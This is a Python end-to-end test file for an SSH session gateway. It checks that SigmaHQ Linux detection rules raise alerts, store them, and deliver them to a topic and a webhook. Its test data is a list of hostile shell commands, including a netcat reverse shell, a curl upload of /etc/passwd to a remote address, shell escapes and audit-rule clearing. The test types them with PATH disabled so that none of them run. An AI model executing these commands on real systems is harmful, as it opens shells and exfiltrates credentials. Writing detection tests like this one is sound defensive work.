"""The alert group through the real gateway: SigmaHQ's Linux rules (../shared/sigma, all
of them loaded) on commands typed in a real bash on a real sshd, read by a real alert
member; alerts in the store (``sshtrail alerts``), on the alerts topic, and at a webhook
receiver on loopback that is down for a while and then back.

The commands run with ``PATH`` pointing nowhere: the shell finds none of them, so
nothing they would do is done on this machine, while the gateway records -- and the
alert group reads -- exactly what was typed.
"""

from __future__ import annotations

import json
import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pexpect
import pytest

from sshtrail import migrate
from tests.support.cli import Running, sshtrail
from tests.support.consumers import start_member, wait_for, write_config
from tests.support.gateway import GatewayProcess, toml_value
from tests.support.kafka import Broker
from tests.support.sigma import SIGMA, sigma_rules
from tests.support.sshd import SshdTarget
from tests.support.topicread import json_documents
from tests.support.webhook import Receiver

pytestmark = pytest.mark.e2e


#: Commands and the SigmaHQ rules (file names less ``proc_creation_lnx_``) each must
#: raise -- across the shapes of condition the corpus uses: one selection, ``all of``,
#: ``1 of``, ``not 1 of filter_*``, ``|contains|all``, ``|endswith``, ``|re``.
RAISING = {
    "crontab -r": {"crontab_removal"},
    "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'": {"python_pty_spawn"},
    "nc -e /bin/sh 127.0.0.1 4444": {"netcat_reverse_shell", "susp_network_utilities_execution"},
    "chattr -i /etc/passwd": {"chattr_immutable_removal"},
    "userdel intruder": {"userdel"},
    "mkfifo /tmp/f": {"mkfifo_named_pipe_creation", "mkfifo_named_pipe_creation_susp_location"},
    "wget http://203.0.113.9/a -O /tmp/a": {"wget_download_suspicious_directory"},
    "curl -F file=@/etc/passwd http://203.0.113.9": {"curl_usage", "susp_curl_fileupload"},
    "cat ~/.bash_history": {"susp_history_recon"},
    "env /bin/sh": {"env_shell_invocation"},
    "awk 'BEGIN {system(\"/bin/sh\")}'": {"awk_shell_spawn"},
    "vim -c ':!/bin/sh'": {"vim_shell_execution"},
    "capsh --": {"capsh_shell_invocation"},
    "auditctl -D": {"auditctl_clear_rules"},
}

#: Fifty commands of an ordinary day that no rule of the corpus takes for an attack.
BENIGN = [
    "ls", "ls -la", "pwd", "cd /tmp", "cd -", "echo hello", "date", "whoami", "df -h",
    "du -sh .", "free -m", "ps aux", "top -bn1", "git status", "git log --oneline -5",
    "git diff", "vim notes.txt", "less README.md", "tail -n 20 app.log", "head -5 app.log",
    "grep -r TODO .", "wc -l main.py", "make", "make test", "python3 script.py", "pip list",
    "docker ps", "docker images", "kubectl get pods", "systemctl status nginx",
    "journalctl -u nginx -n 50", "ssh other-host", "scp report.txt host:/srv/",
    "tar xzf release.tgz", "mkdir -p build", "cp a.txt b.txt", "mv b.txt c.txt",
    "sort data.csv", "uniq -c counts", "cat app.log", "env", "history", "man ls", "sleep 0",
    "true", "ping -c1 localhost", "apt list --installed", "ls /var/log", "touch notes.txt",
    "date -u",
]  # fmt: skip


@pytest.fixture
def stack(
    tmp_path: Path, broker: Broker, sshd: SshdTarget
) -> Iterator[tuple[GatewayProcess, Path, Receiver, Running]]:
    sigma_rules()
    gateway = GatewayProcess(tmp_path / "gw", broker.bootstrap_servers, sshd)
    gateway.start()
    store_url = f"sqlite:///{tmp_path / 'store.db'}"
    migrate.upgrade(store_url)
    config = write_config(
        tmp_path / "members.toml",
        broker.bootstrap_servers,
        gateway.topic,
        store_url,
        alert_group=f"{gateway.topic}-alert",
    )
    receiver = Receiver()  # down at first: it comes up once the alerts are raised
    config.write_text(
        config.read_text()
        + "[alerts]\n"
        + f"rules = {toml_value(str(SIGMA))}\n"
        + f"topic = {toml_value(gateway.topic + '.alerts')}\n"
        + f"webhook = {toml_value(receiver.url)}\n"
    )
    sshtrail(config, "topics")  # the alerts topic, as up creates it
    member = start_member(config, "alert")
    yield gateway, config, receiver, member
    member.stop()
    receiver.stop()
    gateway.stop()


def typed_session(gateway: GatewayProcess, commands: list[str]) -> None:
    argv = gateway.ssh("alice:t1", tty=True)
    child = pexpect.spawn(
        argv[0], argv[1:], timeout=20, dimensions=(24, 200), env={**os.environ, "TERM": "xterm"}
    )
    child.expect(r"[$#] ")
    child.sendline("exec bash --norc --noprofile")
    child.sendline("PS1='ready> '; export PATH=/nowhere")
    child.expect("ready> ")
    child.expect("ready> ")
    for command in commands:
        child.sendline(command)
        child.expect("ready> ")
    child.sendline("exit")
    child.expect(pexpect.EOF)


def alerts(config: Path, *options: str) -> list[dict[str, Any]]:
    found = sshtrail(config, "alerts", "--json", *options, check=False)
    assert found.returncode in (0, 1), found.stderr
    listed: list[dict[str, Any]] = json.loads(found.stdout)
    return listed


def rule_names(config: Path, found: list[dict[str, Any]]) -> dict[str, set[str]]:
    """Which rule files raised alerts on which command."""
    names: dict[str, set[str]] = {}
    by_id = {rule["id"]: rule for rule in rule_statuses(config)}
    for alert in found:
        stem = Path(by_id[alert["rule"]["id"]]["file"]).stem.removeprefix("proc_creation_lnx_")
        names.setdefault(alert["command"], set()).add(stem)
    return names


def rule_statuses(config: Path) -> list[dict[str, Any]]:
    done = sshtrail(config, "alerts", "rules", "--json")
    rules: list[dict[str, Any]] = json.loads(done.stdout)
    return rules


def on_alerts_topic(gateway: GatewayProcess) -> list[str]:
    """The ids of the alerts on the alerts topic, sorted, copies included."""
    return sorted(a["id"] for a in json_documents(gateway.servers, gateway.topic + ".alerts"))


def test_commands_that_match_sigma_rules_raise_exactly_those_alerts_everywhere(
    stack: tuple[GatewayProcess, Path, Receiver, Running],
) -> None:
    gateway, config, receiver, member = stack
    statuses = rule_statuses(config)
    assert len(statuses) == len(list(SIGMA.glob("*.yml")))
    typed_session(gateway, BENIGN)
    typed_session(gateway, list(RAISING))
    expected = sum(len(rules) for rules in RAISING.values())
    wait_for(lambda: len(alerts(config)) >= expected, timeout=60, what="the alerts stored")
    stored = alerts(config)
    assert rule_names(config, stored) == RAISING  # exactly those: none for the benign session
    for alert in stored:
        assert alert["operator"] == "alice"
        assert alert["target"] == "t1"
        assert alert["rule"]["author"]  # DRL 1.1: the rule's author goes with its alert
        assert alert["link"].startswith("http://127.0.0.1:8022/sessions/")
    ids = sorted(alert["id"] for alert in stored)
    wait_for(
        lambda: on_alerts_topic(gateway) == ids,
        timeout=30,
        what=f"every alert on the topic, once ({member.stderr[-3000:]})",
    )
    time.sleep(3)  # the receiver was down: the outbox backs off and tries again
    receiver.start()
    wait_for(lambda: len(receiver.bodies) >= len(ids), timeout=90, what="the webhook")
    time.sleep(2)
    assert sorted(body["id"] for body in receiver.bodies) == ids  # each once
    assert alerts(config, "--level", "critical") == [
        a for a in stored if a["rule"]["level"] == "critical"
    ]


def test_a_member_killed_mid_session_duplicates_no_alert(
    stack: tuple[GatewayProcess, Path, Receiver, Running],
) -> None:
    """``kill -9`` of the alert member while a session's alerts are being raised and sent;
    its successor raises the rest: each alert stored once and on the topic once, and
    each reaches the webhook (at least once there: tests/integration/test_alert_outbox.py)."""
    gateway, config, receiver, member = stack
    receiver.start()
    commands = list(RAISING)
    half = len(commands) // 2
    typed_session(gateway, commands[:half])
    wait_for(lambda: bool(alerts(config)), timeout=60, what="the first alerts stored")
    member.stop(signal.SIGKILL)  # mid-way: in a batch, or between the topic and the mark
    typed_session(gateway, commands[half:])
    successor = start_member(config, "alert")
    try:
        expected = sum(len(rules) for rules in RAISING.values())
        try:
            wait_for(lambda: len(alerts(config)) >= expected, timeout=90, what="every alert")
        except AssertionError as exc:  # once in a loaded full run: say what was there
            found = rule_names(config, alerts(config))
            said = successor.stderr[-3000:]
            raise AssertionError(f"{exc}\nstored: {found}\nsuccessor said:\n{said}") from None
        stored = alerts(config)
        assert rule_names(config, stored) == RAISING
        ids = sorted(alert["id"] for alert in stored)
        assert len(set(ids)) == len(ids)
        wait_for(
            lambda: len(on_alerts_topic(gateway)) >= len(ids),
            timeout=30,
            what="every alert on the topic",
        )
        time.sleep(2)  # a copy would come now
        assert on_alerts_topic(gateway) == ids  # once each
        wait_for(lambda: {b["id"] for b in receiver.bodies} == set(ids), timeout=60, what="hook")
    finally:
        successor.stop()
